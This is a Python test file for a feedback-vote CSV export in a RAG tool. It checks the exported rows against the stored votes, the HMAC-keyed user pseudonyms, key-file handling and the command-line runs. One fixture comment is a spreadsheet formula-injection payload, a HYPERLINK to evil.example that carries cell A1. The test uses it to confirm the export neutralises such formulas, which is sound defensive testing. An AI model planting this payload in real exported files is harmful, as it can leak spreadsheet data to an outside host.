"""`candor feedback export --csv` on answers made by the real pipeline and votes given through
`Candor.record_feedback`, checked against the rows read straight from the tables.

The seeded votes: several users on several answers (one changed its mind: one row, the last vote),
an anonymous vote, and comments with commas, quotes and line breaks. Every exported row of the window
is compared with the stored vote and trace; the user column is checked in each mode against
HMAC-SHA256 computed here (never against the module's own function).
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import os
import stat
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr
from sqlalchemy import text

from rag.config import Settings, load_settings
from rag.errors import ConfigError
from rag.insights.feedback.export import COLUMNS, export_csv, key_file
from rag.model.answers import Feedback, Platform, Question
from rag.model.types import AccessScope
from rag.runtime import Candor
from tests.cli import run_cli
from tests.conftest import SAMPLE

TRICKY = 'Wrong, "24 days" is old;\nthe policy says 24, not 20.\r\nSee: leave, carry-over'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "see the policy")'
KEY = "a-test-export-key-of-some-length"


@dataclass
class Seeded:
    since: datetime
    traces: dict[str, str]
    """Name → trace id."""
    users: tuple[str, ...]


@pytest.fixture(scope="module")
async def seeded(candor: Candor) -> Seeded:
    since = datetime.now(UTC) - timedelta(seconds=1)
    kb = await candor.knowledge_base(f"export-{uuid.uuid4().hex[:8]}", create=True)
    assert kb is not None
    assert (await candor.ingestor().ingest([SAMPLE], kb=kb)).ok
    scope = AccessScope(frozenset(), frozenset([kb.name]))
    asked: dict[str, tuple[str, Platform]] = {
        "parental": ("How much paid parental leave does the primary carer get?", "slack"),
        "annual-leave": ("How many days of annual leave do full-time employees get?", "teams"),
        "pension": ("How much does Northwind Labs contribute to my pension?", "web"),
    }
    traces = {}
    for name, (question, platform) in asked.items():
        answer = await candor.answer(Question(question, scope=scope, platform=platform, asker="U-asker"))
        traces[name] = answer.trace_id
    suffix = uuid.uuid4().hex[:6]
    users = (f"U{suffix}A", f"U{suffix}B", f"U{suffix}C")
    votes: list[tuple[str, Any, str | None, str | None]] = [
        ("parental", "up", users[0], None),
        ("parental", "up", users[1], "clear, with the source"),
        ("annual-leave", "up", users[0], None),
        ("annual-leave", "down", users[0], TRICKY),  # changed its mind: one row, this one
        ("annual-leave", "down", users[2], '"quoted" only'),
        ("pension", "down", None, "should have known\nthis one"),
        ("pension", "down", users[1], FORMULA),  # a spreadsheet would run it
    ]
    for name, rating, user, comment in votes:
        await candor.record_feedback(Feedback(traces[name], rating, user=user, platform="slack", comment=comment))
    return Seeded(since, traces, users)


async def stored_votes(candor: Candor, since: datetime, until: datetime) -> list[dict[str, Any]]:
    async with candor.store.engine.connect() as conn:
        rows = await conn.execute(
            text(
                "SELECT t.id::text AS trace_id, t.created_at, t.platform, t.question, t.answer_text, t.route, "
                "f.rating, f.comment, f.user_id, f.updated_at FROM feedback f JOIN traces t ON t.id = f.trace_id "
                "WHERE f.updated_at >= :since AND f.updated_at < :until"
            ),
            {"since": since, "until": until},
        )
        return [dict(row._mapping) for row in rows]


def parse(content: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content, newline="")))


def as_exported(cell: str) -> str:
    """What a spreadsheet must see: text it would run as a formula starts with a quote (OWASP)."""
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def keyed(key: bytes, user: str) -> str:
    return hmac.new(key, user.encode(), hashlib.sha256).hexdigest()[:16]


def settings_for(settings: Settings, **changes: Any) -> Settings:
    return settings.model_copy(update=changes)


def check_rows(exported: list[dict[str, str]], stored: list[dict[str, Any]], user: Any) -> None:
    """Every exported row is a stored vote with its answer, each stored vote exported once."""
    assert len(exported) == len(stored)
    by_vote = {(row["trace_id"], row["voted_at"]): row for row in exported}
    assert len(by_vote) == len(exported)
    for vote in stored:
        row = by_vote[vote["trace_id"], vote["updated_at"].astimezone(UTC).isoformat()]
        assert datetime.fromisoformat(row["created_at"]) == vote["created_at"]
        assert row["platform"] == vote["platform"]
        assert row["question"] == as_exported(vote["question"])
        assert row["answer"] == as_exported(vote["answer_text"])
        assert row["route"] == vote["route"]
        assert row["rating"] == {1: "up", -1: "down"}[vote["rating"]]
        assert row["reason"] == as_exported(vote["comment"] or "")
        assert row.get("user") == user(vote["user_id"])
    voted = [datetime.fromisoformat(row["voted_at"]) for row in exported]
    assert voted == sorted(voted)


async def test_keyed_export_matches_the_stored_rows(candor: Candor, seeded: Seeded) -> None:
    until = datetime.now(UTC) + timedelta(seconds=1)
    settings = settings_for(candor.settings, export_users="keyed", export_key=SecretStr(KEY))
    content, count = await export_csv(candor.tracker.engine, settings, seeded.since, until)
    exported = parse(content)
    assert tuple(exported[0]) == COLUMNS and count == len(exported)
    stored = await stored_votes(candor, seeded.since, until)
    mine = [row for row in stored if row["trace_id"] in seeded.traces.values()]
    assert len(mine) == 6  # seven votes, one of them replaced
    check_rows(exported, stored, lambda user: "" if user is None else keyed(KEY.encode(), user))
    for user in seeded.users:
        value = keyed(KEY.encode(), user)
        assert value in {row["user"] for row in exported}
        assert value != hashlib.sha256(user.encode()).hexdigest()[:16]
        assert user not in content


async def test_the_changed_vote_and_the_tricky_comment_round_trip(candor: Candor, seeded: Seeded) -> None:
    until = datetime.now(UTC) + timedelta(seconds=1)
    settings = settings_for(candor.settings, export_users="plain")
    content, _ = await export_csv(candor.tracker.engine, settings, seeded.since, until)
    exported = parse(content)
    annual = [row for row in exported if row["trace_id"] == seeded.traces["annual-leave"]]
    mind_changed = [row for row in annual if row["user"] == seeded.users[0]]
    assert len(mind_changed) == 1 and mind_changed[0]["rating"] == "down"
    assert mind_changed[0]["reason"] == TRICKY  # commas, quotes, \n and \r\n unchanged
    (formula,) = [row for row in exported if row["reason"].startswith("'=")]
    assert formula["reason"] == "'" + FORMULA  # shown as text, not run
    (anonymous,) = [row for row in exported if row["trace_id"] == seeded.traces["pension"] and not row["user"]]
    assert anonymous["user"] == "" and anonymous["reason"] == "should have known\nthis one"
    assert anonymous["route"] == "abstained" and anonymous["platform"] == "web"


async def test_plain_and_omitted_users(candor: Candor, seeded: Seeded) -> None:
    until = datetime.now(UTC) + timedelta(seconds=1)
    stored = await stored_votes(candor, seeded.since, until)
    plain, _ = await export_csv(
        candor.tracker.engine, settings_for(candor.settings, export_users="plain"), seeded.since, until
    )
    check_rows(parse(plain), stored, lambda user: user or "")
    omitted, _ = await export_csv(
        candor.tracker.engine, settings_for(candor.settings, export_users="omit"), seeded.since, until
    )
    rows = parse(omitted)
    assert "user" not in rows[0] and tuple(rows[0]) == tuple(c for c in COLUMNS if c != "user")
    check_rows(rows, stored, lambda user: None)
    assert not any(user in omitted for user in seeded.users)


async def test_without_a_configured_key_one_is_made_once_and_reused(
    candor: Candor, seeded: Seeded, tmp_path: Path
) -> None:
    until = datetime.now(UTC) + timedelta(seconds=1)
    settings = settings_for(candor.settings, home=tmp_path, export_users="keyed", export_key=None)
    first, _ = await export_csv(candor.tracker.engine, settings, seeded.since, until)
    path = tmp_path / "export.key"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    key = bytes.fromhex(path.read_text().strip())
    assert len(key) == 32
    second, _ = await export_csv(candor.tracker.engine, settings, seeded.since, until)
    assert first == second and path.read_text().strip() == key.hex()
    users = {row["user"] for row in parse(first)}
    assert {keyed(key, user) for user in seeded.users} <= users
    assert os.listdir(tmp_path) == ["export.key"]  # no temporary file left behind


def test_racing_first_exports_share_one_key(tmp_path: Path) -> None:
    path = tmp_path / "home" / "export.key"
    with ThreadPoolExecutor(max_workers=8) as pool:
        keys = set(pool.map(lambda _: key_file(path), range(16)))
    assert len(keys) == 1 and bytes.fromhex(path.read_text().strip()) in keys
    assert [p.name for p in path.parent.iterdir()] == ["export.key"]


def test_a_broken_key_file_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "export.key"
    path.write_text("not hex\n")
    with pytest.raises(ConfigError, match="does not hold an export key"):
        key_file(path)
    path.write_text("abcd\n")
    with pytest.raises(ConfigError, match="fewer than 16"):
        key_file(path)


def test_export_settings_are_checked(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="CANDOR_EXPORT_USERS"):
        load_settings(home=tmp_path, export_users="hashed")
    with pytest.raises(ConfigError, match="CANDOR_EXPORT_KEY"):
        load_settings(home=tmp_path, export_key="too-short")
    settings = load_settings(home=tmp_path, export_key=KEY)
    assert settings.export_users == "keyed" and KEY not in repr(settings)


# --- the real command -------------------------------------------------------------------------------------


@pytest.mark.slow
async def test_candor_feedback_export_from_the_command_line(candor: Candor, seeded: Seeded, tmp_path: Path) -> None:
    since = seeded.since.isoformat()
    to_stdout = run_cli(candor, tmp_path, "feedback", "export", "--csv", "--since", since, CANDOR_EXPORT_KEY=KEY)
    assert to_stdout.returncode == 0, to_stdout.stderr
    stored = await stored_votes(candor, seeded.since, datetime.now(UTC))
    check_rows(parse(to_stdout.stdout), stored, lambda user: "" if user is None else keyed(KEY.encode(), user))

    target = tmp_path / "votes.csv"
    to_file = run_cli(
        candor, tmp_path, "feedback", "export", "--since", since, "--out", str(target), CANDOR_EXPORT_USERS="plain"
    )
    assert to_file.returncode == 0, to_file.stderr
    assert to_file.stdout == "" and f"wrote {len(stored)} votes to {target}" in to_file.stderr
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with target.open(newline="", encoding="utf-8") as handle:
        check_rows(list(csv.DictReader(handle)), stored, lambda user: user or "")

    made_key = run_cli(candor, tmp_path, "feedback", "export", "--since", since)
    assert made_key.returncode == 0, made_key.stderr
    key = bytes.fromhex((tmp_path / "export.key").read_text().strip())
    check_rows(parse(made_key.stdout), stored, lambda user: "" if user is None else keyed(key, user))

    bad = run_cli(candor, tmp_path, "feedback", "export", "--since", "last week")
    assert bad.returncode == 2 and "last week" in bad.stderr and "Traceback" not in bad.stderr
    wrong = run_cli(candor, tmp_path, "feedback", "export", CANDOR_EXPORT_USERS="hashed")
    assert wrong.returncode == 1 and "CANDOR_EXPORT_USERS" in wrong.stderr
